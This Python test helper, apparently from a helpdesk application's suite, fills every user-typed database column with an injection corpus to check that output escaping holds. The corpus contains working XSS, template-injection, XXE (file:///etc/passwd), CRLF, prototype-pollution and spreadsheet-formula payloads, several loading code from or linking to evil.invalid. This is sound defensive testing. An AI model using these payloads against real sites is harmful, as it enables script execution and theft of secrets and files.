"""Words that want to run: they are put into every stored field, and must come out as the words that they are.

Each carries the mark EVIL, or the attribute or host of that name, so that whatever of them has come to life is found.
"""

from sqlalchemy import Column, String, select, update

from helpdesk.extensions import db

HOST = "evil.invalid"
# One for many places at once: out of an attribute, out of a title, a script or a comment, and into a template.
SHORT = (
    '"><svg onload=alert(1)>EVIL',
    "'><b hx-get=/evil evil>EVIL",
    "{{7*7}}${7*7}<i evil>EVIL",
    "</title><script evil>EVIL",
    "--><img src=x onerror=alert(1)>EVIL"[:40],
)
LONG = (
    "EVIL\"'></title></textarea></script><img src=x onerror=alert(1) evil>{{7*7}}{% if x %}",
    "EVIL<svg/onload=alert(1) evil><script>alert(1)</script>",
    "EVIL<a href=javascript:alert(1) hx-get=/evil hx-on:click=alert(1) data-hx-get=/evil evil>",
    "EVIL&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;<i evil>",
)
CORPUS = (
    "<script>alert(1)</script>",
    f"<script src=//{HOST}/x.js></script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    f"<img src=http://{HOST}/track.gif>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    f"<svg><use href=//{HOST}/x.svg#x></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    f"<iframe src=//{HOST}></iframe><object data=//{HOST}></object><embed src=//{HOST}>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<base href=//{HOST}/><link rel=stylesheet href=//{HOST}/x.css><meta http-equiv=refresh content=0;url=//{HOST}>",
    f"<style>@import url(//{HOST}/x.css);body{{background:url(//{HOST}/x)}}</style>",
    f"<form action=//{HOST}><button formaction=javascript:alert(1)>Send</button></form>",
    "<details open ontoggle=alert(1)><input autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script></title><script>alert(1)</script>--><script>alert(1)</script>",
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#0000060script&#0000062 &#x3c;script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003ealert(1) \\x3cscript\\x3e",
    "javascript:alert(1) JaVaScRiPt:alert(1) java\tscript:alert(1) \x01javascript:alert(1) vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script> data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[click](javascript:alert(1)) ![x](http://evil.invalid/track.gif) [x]: javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a> <javascript:alert(1)> <http://evil.invalid/"onclick=alert(1)>',
    "https://evil.invalid/\"onmouseover=alert(1)// https://evil.invalid/'><script>alert(1)</script>",
    "http://evil.invalid/%0d%0aSet-Cookie:x=1 http://[::1]:80@evil.invalid/<b>",
    "{{7*7}} {{constructor.constructor('alert(1)')()}} {% for x in y %} ${7*7} #{7*7} <%= 7*7 %> %(name)s {name} {0}",
    "{{ config.SECRET_KEY }} {{ ''.__class__.__mro__ }}",
    "<div hx-get=/evil hx-trigger=load hx-on:load=alert(1) hx-on::after-request=alert(1) data-hx-post=/evil>x</div>",
    "<div hx-vals='js:{x:alert(1)}' hx-boost=true _=\"on load call alert(1)\" @click=alert(1) x-init=alert(1)>",
    '__proto__ constructor.prototype.polluted=1 {"__proto__":{"polluted":1}} __proto__[polluted]=1',
    "\u202eevil\u202c \u2066gpj.exe\u2069 \u200b\ufeff \u0430dmin",
    "<plaintext><xmp><listing>",
    "]]><!CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x><?xml-stylesheet href=//evil.invalid?>",
    '=HYPERLINK("http://evil.invalid","x") +1+1 -1+1 @SUM(1) \t=1 \uff1d1 ;=1',
)
ALL_LINES = "\n".join(("EVIL", *CORPUS))
# What the product itself writes, from a list of its own or at random: no person types it, and another word would be a
# broken database. Everything else is attacked, a new column too, as soon as any of the corpus fits into it.
NOBODY_TYPES = frozenset(
    {
        "audit_entry.what", "authenticator_app.key", "authenticator_app.next_key", "chat.submission",
        "chat_message.client_id", "data_export.token", "draft.submission", "mail.key", "mail.kind", "mail.token",
        "mail.why", "mail_choice.kind", "notice.key", "notice.kind", "parked_form.fields", "parked_form.path",
        "passkey.credential_id", "passkey.transports", "passkey_challenge.challenge", "passkey_challenge.holder",
        "password_link.token_hash", "person_word.word", "recovery_code.code_hash", "saved_view.columns",
        "second_step.token_hash", "sign_in_failure.key", "site_setting.key", "site_text.key", "stored_file.key",
        "stored_file.media_type", "stored_file.sha256", "stored_file.submission", "stored_file.thumb_key",
        "stored_file.token", "stored_file.view_key", "tag.key", "ticket.owner_rank", "ticket.submission",
        "ticket_message.submission", "user.email_key", "user.password_hash", "user.rank", "user.time_zone",
        "user.username_key", "user_session.token_hash",
    }
)  # fmt: skip
# In these only some rows hold what was typed; the others hold a code of ours.
TYPED_WHERE = {
    "chat_message.body": lambda table: table.c.kind == "text",
    "ticket_event.detail": lambda table: table.c.what.in_(["tagged", "untagged"]),
}


def attacked() -> list[Column[str]]:
    """The columns that hold what somebody has typed, of every table that there is."""
    return [
        column
        for table in db.metadata.sorted_tables
        for column in table.columns
        if isinstance(column.type, String) and fitting(column) and f"{table.name}.{column.name}" not in NOBODY_TYPES
    ]


def fitting(column: Column[str]) -> list[str]:
    """What of the corpus this column can hold whole."""
    length = column.type.length
    if length is None or length >= 1000:
        return [ALL_LINES[:length]]
    room = length - (2 if column.unique else 0)
    return [one for one in (*LONG, *SHORT) if len(one) <= room]


def poison() -> set[str]:
    """Puts the corpus into every such field of every row, inside a transaction. The fields that now hold it."""
    found = set()
    for column in attacked():
        name = f"{column.table.name}.{column.name}"
        keys, texts = list(column.table.primary_key.columns), fitting(column)
        rows = select(*keys).where(column != "")
        if name in TYPED_WHERE:
            rows = rows.where(TYPED_WHERE[name](column.table))
        for turn, row in enumerate(db.session.execute(rows).all()):
            same = [key == value for key, value in zip(keys, row, strict=True)]
            text = f"{turn if column.unique else ''}{texts[turn % len(texts)]}"
            db.session.execute(update(column.table).where(*same).values({column.name: text}))
            found.add(name)
    return found
